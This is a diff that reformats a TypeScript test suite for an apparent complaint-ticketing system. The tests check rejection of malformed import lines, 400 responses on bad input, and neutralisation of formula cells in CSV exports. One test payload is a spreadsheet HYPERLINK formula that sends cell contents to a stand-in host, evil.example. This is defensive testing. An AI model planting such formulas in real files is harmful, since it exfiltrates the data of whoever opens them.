@@ -23,7 +23,10 @@ beforeAll(async () => {
   app = await testApp();
   roles = await startRoles(app, ['web', 'worker'], { scheduler: false });
   http = roles.http!;
-  for (const u of ['operator', 'analyst']) tok[u] = (await http.inject({ method: 'POST', url: '/api/auth/login', payload: { username: u, password: DEMO_PASSWORD } })).json().token;
+  for (const u of ['operator', 'analyst'])
+    tok[u] = (
+      await http.inject({ method: 'POST', url: '/api/auth/login', payload: { username: u, password: DEMO_PASSWORD } })
+    ).json().token;
 });
 afterAll(async () => {
   await roles.stop();
@@ -35,25 +38,33 @@ const call = (u: string | null, method: 'GET' | 'POST', url: string, payload?: u
 
 const importAll = async (file: string) => {
   const rejected: [number, string][] = [];
-  const r = await importFile(app, { file, actor: SYSTEM, source: file, onRejected: (l, why) => rejected.push([l, why]) });
+  const r = await importFile(app, {
+    file,
+    actor: SYSTEM,
+    source: file,
+    onRejected: (l, why) => rejected.push([l, why]),
+  });
   return { ...r, rejected };
 };
 
 describe('imports keep every good line', () => {
   it('CSV: a calendar-invalid date, a NUL and an unterminated quote each cost only their own line', async () => {
     const f = join(dir, 'a.csv');
-    writeFileSync(f, [
-      'id,received_at,kind,text',
-      'A1,2026-10-09,咨询,请问预付卡怎么退',
-      'A2,2026-02-30,咨询,二月没有三十日',
-      'A3,2026-10-09,咨询,含有\u0000的一行',
-      'A4,2026-10-09,咨询,"引号没有闭合，后面的行不能被吞掉',
-      'A5,2026-10-10,咨询,第五行照常导入',
-      'A6,2026/10/11 9:30,咨询,"多行的内容',
-      '第二行",',
-      'A7,2026-13-45,咨询,十三月',
-      'A8,2026-10-12,咨询,最后一行',
-    ].join('\n'));
+    writeFileSync(
+      f,
+      [
+        'id,received_at,kind,text',
+        'A1,2026-10-09,咨询,请问预付卡怎么退',
+        'A2,2026-02-30,咨询,二月没有三十日',
+        'A3,2026-10-09,咨询,含有\u0000的一行',
+        'A4,2026-10-09,咨询,"引号没有闭合，后面的行不能被吞掉',
+        'A5,2026-10-10,咨询,第五行照常导入',
+        'A6,2026/10/11 9:30,咨询,"多行的内容',
+        '第二行",',
+        'A7,2026-13-45,咨询,十三月',
+        'A8,2026-10-12,咨询,最后一行',
+      ].join('\n'),
+    );
     const r = await importAll(f);
     expect(r.imported).toBe(4);
     expect(r.rejected.map(([l]) => l)).toEqual([3, 4, 5, 9]);
@@ -65,8 +76,18 @@ describe('imports keep every good line', () => {
 
   it('TIF and XLSX: the same rejections by line, the rest imported', async () => {
     const f = join(dir, 'b.jsonl');
-    const l = (id: string, at: string, text: string) => JSON.stringify({ id, kind: 'consultation', received_at: at, text });
-    writeFileSync(f, [l('T1', '2026-10-09', '好的一行'), l('T2', '2026-13-45', '坏日期'), l('T3', '2026-10-09', 'NUL\u0000在这里'), l('T4', '2026-10-09T24:10', '坏时间'), l('T5', '2026-10-10', '又一个好行')].join('\n'));
+    const l = (id: string, at: string, text: string) =>
+      JSON.stringify({ id, kind: 'consultation', received_at: at, text });
+    writeFileSync(
+      f,
+      [
+        l('T1', '2026-10-09', '好的一行'),
+        l('T2', '2026-13-45', '坏日期'),
+        l('T3', '2026-10-09', 'NUL\u0000在这里'),
+        l('T4', '2026-10-09T24:10', '坏时间'),
+        l('T5', '2026-10-10', '又一个好行'),
+      ].join('\n'),
+    );
     const t = await importAll(f);
     expect(t.imported).toBe(2);
     expect(t.rejected.map(([n]) => n)).toEqual([2, 3, 4]);
@@ -99,14 +120,23 @@ describe('the API answers bad input with 400 and the field', () => {
     expect(q.statusCode).toBe(400);
     expect(q.json().message).toMatch(/query\.q/);
     expect((await call('operator', 'GET', '/api/tickets/%00')).statusCode).toBe(400);
-    const ok = await call(null, 'POST', '/api/public/tickets', { kind: 'consultation', title: '咨询\u0007\u001b', text: '请问网购七天无理由退货怎么办理' });
+    const ok = await call(null, 'POST', '/api/public/tickets', {
+      kind: 'consultation',
+      title: '咨询\u0007\u001b',
+      text: '请问网购七天无理由退货怎么办理',
+    });
     expect(ok.statusCode).toBe(201);
     const stored = await app.db.query<{ title: string }>('SELECT title FROM tickets WHERE id = $1', [ok.json().id]);
     expect(stored.rows[0]!.title).toBe('咨询');
   });
 
   it('refuses impossible dates with 400 naming the field, on every date parameter', async () => {
-    for (const url of ['/api/analytics/overview?from=2026-13-45', '/api/analytics/cube?dims=category&to=2026-02-30', '/api/analytics/tickets?from=2026-04-31', '/api/analytics/export.csv?purpose=核查&from=2026-13-45']) {
+    for (const url of [
+      '/api/analytics/overview?from=2026-13-45',
+      '/api/analytics/cube?dims=category&to=2026-02-30',
+      '/api/analytics/tickets?from=2026-04-31',
+      '/api/analytics/export.csv?purpose=核查&from=2026-13-45',
+    ]) {
       const r = await call('analyst', 'GET', url);
       expect(r.statusCode, url).toBe(400);
       expect(r.json().message, url).toMatch(/from|to/);
@@ -121,7 +151,12 @@ describe('the API answers bad input with 400 and the field', () => {
 
 describe('exports', () => {
   it('neutralises formula cells in the CSV export', async () => {
-    const f = await call('operator', 'POST', '/api/tickets', { kind: 'complaint', title: '=HYPERLINK("http://evil.example/?"&A1,"点击查看")', text: '@SUM(1+1) 商家不退押金，要求退还押金500元', respondent: { name: '-某某公司', address: '上海市松江区岳阳街道人民北路1号' } });
+    const f = await call('operator', 'POST', '/api/tickets', {
+      kind: 'complaint',
+      title: '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
+      text: '@SUM(1+1) 商家不退押金，要求退还押金500元',
+      respondent: { name: '-某某公司', address: '上海市松江区岳阳街道人民北路1号' },
+    });
     expect(f.statusCode).toBe(201);
     const r = await call('analyst', 'GET', '/api/analytics/export.csv?purpose=' + encodeURIComponent('公式注入核查'));
     expect(r.statusCode).toBe(200);
